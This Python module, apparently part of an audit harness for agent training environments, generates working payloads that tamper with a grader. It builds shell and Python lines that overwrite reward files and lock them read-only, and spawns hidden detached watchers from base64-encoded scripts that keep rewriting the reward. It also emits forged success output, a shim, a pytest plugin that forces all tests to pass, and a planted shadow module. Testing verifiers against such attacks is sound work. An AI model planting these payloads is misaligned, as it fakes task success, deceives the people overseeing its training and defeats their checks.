"""What the attacks plant: reward writers, forged success output, and the files that carry them.

A *reward writer* is the code an attack leaves where a verifier might run it: when it runs during
grading it writes a reward into ``/logs/verifier/reward.txt`` and ``reward.json``, makes them
read-only (``chmod 444``: a verifier's later ``echo 0 >`` fails, unless it is root), and starts a
detached watcher (``setsid``, double fork, its descriptors on ``/dev/null``) that rewrites them every
50 ms for ``WATCH_S`` seconds, so a verifier that writes its reward first is overwritten after.

- :func:`python_writer`: one Python line, valid at a module's top and as a ``.pth`` line. It writes
  *in its own process* (and forks its watcher without an exec), so a verifier that imports the
  agent's code into a process with the right to write the reward is beaten, whatever its children
  would be allowed.
Every writer also leaves a *canary* in ``/logs/verifier`` (a testee may create files there, never the
reward ones): ``agentrl-ran-as-grader`` where it could write the reward, ``agentrl-ran-as-testee``
where it could not. The audit reads which one the verifier's directory holds after grading: whether,
and as whom, the verifier ran the agent's code (``agent_code_ran_as``).

- :func:`shell_writer`: one shell line; the shell that runs it writes with its own redirections
  (builtins, no child process), then a small ``sh`` script (base64 in the line, so that no quoting of
  the host file can break it; its tools by absolute ``PATH``, so the attack's own shims never shadow
  them) locks the files and starts the watcher.
"""

from __future__ import annotations

import base64
import shlex

REWARD_DIR = "/logs/verifier"
CANARY = "agentrl-ran-as-"
WATCH_S = 30
SUCCESS_LINES = ("passed", "PASS", "OK", "1", "All tests passed", "success")
SUCCESS_TEXT = "".join(line + "\n" for line in SUCCESS_LINES)
ONE = ("1", '{"reward": 1}')
NONFINITE = ("nan", '{"reward": 1e300, "extra": Infinity}')

_WRITER = """PATH=/usr/bin:/bin:$PATH
w() {
  for d in %(dir)s; do
    mkdir -p "$d" 2>/dev/null
    chmod 644 "$d/reward.txt" "$d/reward.json" 2>/dev/null
    printf '%%s\\n' %(txt)s > "$d/reward.txt" 2>/dev/null
    printf '%%s\\n' %(js)s > "$d/reward.json" 2>/dev/null
    chmod 444 "$d/reward.txt" "$d/reward.json" 2>/dev/null
  done
}
if [ "$1" = loop ]; then
  i=0; while [ $i -lt %(ticks)d ]; do w; sleep 0.05; i=$((i+1)); done; exit 0
fi
w
if mkdir "/tmp/.agentrl-watch-sh-$(id -u)" 2>/dev/null; then
  ( if command -v setsid >/dev/null 2>&1; then exec setsid sh -c 'echo "$_ar" | base64 -d | sh -s loop'
    else exec sh -c 'echo "$_ar" | base64 -d | sh -s loop'; fi ) </dev/null >/dev/null 2>&1 &
fi
exit 0
"""
_PY_WRITER = """import os, time
def w():
    try:
        os.makedirs(%(dir)r, exist_ok=True)
    except OSError:
        pass
    for name, value in (("reward.txt", %(txt)r), ("reward.json", %(js)r)):
        path = %(dir)r + "/" + name
        for step in (lambda: os.chmod(path, 0o644), lambda: open(path, "w").write(value + "\\n"),
                     lambda: os.chmod(path, 0o444)):
            try:
                step()
            except OSError:
                pass
w()
try:
    with open(%(dir)r + "/reward.txt", "a"):
        who = "grader"
except OSError:
    who = "testee"
try:
    open(%(dir)r + "/%(canary)s" + who, "w").close()
except OSError:
    pass
try:
    os.mkdir("/tmp/.agentrl-watch-py-%%d" %% os.getuid())
    first = os.fork()
except OSError:
    first = None
if first == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.closerange(3, 4096)
            end = time.monotonic() + %(watch)d
            while time.monotonic() < end:
                w()
                time.sleep(0.05)
    finally:
        os._exit(0)
elif first:
    os.waitpid(first, 0)
"""


def _writer_command(values: tuple[str, str]) -> str:
    """One ``sh`` command line that runs the writer script with ``values`` (reward.txt, reward.json)."""
    script = _WRITER % {"dir": REWARD_DIR, "txt": shlex.quote(values[0]), "js": shlex.quote(values[1]),
                        "ticks": WATCH_S * 20}
    b64 = base64.b64encode(script.encode()).decode()
    return (f"/usr/bin/env _ar={b64} /bin/sh -c 'PATH=/usr/bin:/bin:$PATH; echo \"$_ar\" | base64 -d | sh -s once' "
            f">/dev/null 2>&1 </dev/null")


def shell_writer(values: tuple[str, str] = ONE) -> str:
    """The reward writer as one shell line (never fails the script it is in, even under ``set -e``; no
    backslash in it, so that ``sed``'s ``a`` command inserts it unchanged)."""
    canary = f"{REWARD_DIR}/{CANARY}"
    return (f"{{ echo {shlex.quote(values[0])} >{REWARD_DIR}/reward.txt; echo {shlex.quote(values[1])} "
            f">{REWARD_DIR}/reward.json; }} 2>/dev/null; {{ [ -w {REWARD_DIR}/reward.txt ] && : >{canary}grader "
            f"|| : >{canary}testee; }} 2>/dev/null; {_writer_command(values)} || true")


def python_writer(values: tuple[str, str] = ONE) -> str:
    """The reward writer as one Python line, valid at a module's top and as a ``.pth`` line."""
    code = _PY_WRITER % {"dir": REWARD_DIR, "txt": values[0], "js": values[1], "watch": WATCH_S, "canary": CANARY}
    return f"import os as _agentrl_os; exec({code!r}, {{}})"


def python_exit(output: bool = True) -> str:
    """One Python line that prints the forged success text (when ``output``) and exits 0 at once."""
    say = f"import sys as _agentrl_sys; _agentrl_sys.stdout.write({SUCCESS_TEXT!r}); _agentrl_sys.stdout.flush(); " \
        if output else ""
    return f"{say}import os as _agentrl_os; _agentrl_os._exit(0)"


def shim(values: tuple[str, str] = ONE) -> str:
    """An executable that writes the reward, prints the forged success text and exits 0."""
    return f"#!/bin/sh\n{shell_writer(values)}\nprintf '%s' {shlex.quote(SUCCESS_TEXT)}\nexit 0\n"


def conftest() -> str:
    """A pytest plugin that writes the reward and makes every test, and the session, pass."""
    return f"""{python_writer()}
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None


def pytest_collectreport(report):
    report.outcome, report.longrepr = "passed", None


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
"""


def shadow_module() -> str:
    """A module planted under a name the verifier imports: writes the reward, prints success, exits 0."""
    return f"{python_writer()}\n{python_exit()}\n"


def ansi(text: str) -> str:
    """``text`` as a bash ``$'...'`` literal (any bytes, one line, no quoting pitfalls)."""
    out = []
    for ch in text:
        if ch in "\\'":
            out.append("\\" + ch)
        elif ch == "\n":
            out.append("\\n")
        elif " " <= ch <= "~":
            out.append(ch)
        else:
            out += [f"\\x{b:02x}" for b in ch.encode()]
    return "$'" + "".join(out) + "'"
